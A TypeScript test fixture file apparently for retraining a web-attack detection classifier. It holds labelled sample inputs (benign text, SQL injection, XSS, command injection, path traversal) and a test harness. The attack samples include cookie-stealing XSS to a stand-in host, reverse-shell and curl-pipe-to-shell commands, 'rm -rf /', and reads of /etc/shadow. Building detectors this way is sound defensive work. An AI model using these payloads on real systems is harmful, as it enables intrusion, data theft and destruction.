// Fixtures for the retraining tests: a small labelled dataset written for these tests (no
// public list), with explicit splits, and a harness with a worker on a task queue of its own.
import { createHarnessWorker } from './temporal';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import { Worker } from '@temporalio/worker';
import { createRetrainingActivities, type RetrainingActivities } from '../../activities/retraining/activities';
import { regressionSet } from '../../activities/retraining/regression-set';
import { createFsObjectStore } from '../../objects/fs-store';
import type { ObjectStore } from '../../objects/store';
import type { NewSample } from '../../repo/datasets/samples';
import type { TestDb } from './db';

const BENIGN = [
  'hello world', "O'Brien", 'john.smith@example.com', '2024-05-01', 'search shoes size 42', '/images/logo.png', 'Main Street 12',
  'please select a delivery date', 'drop-off at the front desk', 'red, green and blue', 'order #10442', 'café au lait', 'New York',
  'price < 100', 'the union of two sets', 'cat food 5kg', 'https://example.org/docs?page=2', 'SELECT your seat', 'Q3 report.pdf',
  'Anne-Marie', 'password reset requested', 'script writing course', 'a & b', '42', 'true', 'en-GB', 'Berlin, Germany', 'size=M',
  'foo_bar-baz', 'summer sale 50% off', 'ping pong table', 'where is my parcel', 'echo chamber (film)', 'version 1.2.3',
];
const SQLI = ["1' OR '1'='1", "' UNION SELECT username, password FROM users--", "1; DROP TABLE users--", "admin' --", "1 AND SLEEP(5)", "' OR 1=1#",
  "1' AND extractvalue(1,concat(0x7e,version()))--", "x' OR 'a'='a", "1 UNION ALL SELECT NULL,NULL--", "'; EXEC xp_cmdshell('dir')--", "1' ORDER BY 3--", "' or ''='"];
const XSS = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(document.cookie)>', 'javascript:alert(1)', '"><script>fetch("//e.x/"+document.cookie)</script>',
  '<body onload=alert(1)>', '<iframe src=javascript:alert(1)>', "<a href=\"javascript:alert('x')\">x</a>", '<input autofocus onfocus=alert(1)>', '<ScRiPt>prompt(1)</sCrIpT>', '<marquee onstart=alert(1)>', "'-alert(1)-'"];
const CMDI = ['; cat /etc/passwd', '| whoami', '&& rm -rf /', '$(id)', '`uname -a`', '; nc -e /bin/sh 10.0.0.1 4444', '| curl http://x.example/s.sh | sh', '; ls -la /', '&& wget http://x.example/a -O /tmp/a',
  '; ping -c 3 127.0.0.1', '| cat /etc/shadow', '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1'];
const PATH = ['../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '....//....//etc/passwd', '/../../../../etc/shadow', '..%2f..%2f..%2fboot.ini',
  '../../../../proc/self/environ', '..\\..\\boot.ini', '/var/www/../../etc/hosts', '%252e%252e%252fetc%252fpasswd', '../../WEB-INF/web.xml', '..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts'];

/** Every 4th of each class is holdout; `withRegression` adds the past misses to train. */
export function fixtureSamples(opts: { withRegression?: boolean } = {}): NewSample[] {
  const out: NewSample[] = [];
  for (const [label, list] of [['benign', BENIGN], ['sql_injection', SQLI], ['xss', XSS], ['command_injection', CMDI], ['path_traversal', PATH]] as const) {
    list.forEach((data, i) => out.push({ data, label, source: 'fixture', split: i % 4 === 3 ? 'holdout' : 'train' }));
  }
  if (opts.withRegression) for (const r of regressionSet()) out.push({ data: r.payload, label: r.label, source: 'regression', split: 'train' });
  return out;
}

export interface RetrainingHarness {
  objects: ObjectStore;
  activities: RetrainingActivities;
  taskQueue: string;
  newWorker(env: TestWorkflowEnvironment, overrides?: Partial<RetrainingActivities>): Promise<Worker>;
  close(): void;
}

export function createRetrainingHarness(db: TestDb): RetrainingHarness {
  const dir = mkdtempSync(join(tmpdir(), 'bulwark-models-'));
  const objects = createFsObjectStore(dir);
  const activities = createRetrainingActivities({ db: db.db, objects });
  const taskQueue = `test-retrain-${randomUUID()}`;
  return {
    objects,
    activities,
    taskQueue,
    newWorker: (env, overrides = {}) => createHarnessWorker(env, taskQueue, activities, overrides),
    close: () => rmSync(dir, { recursive: true, force: true }),
  };
}
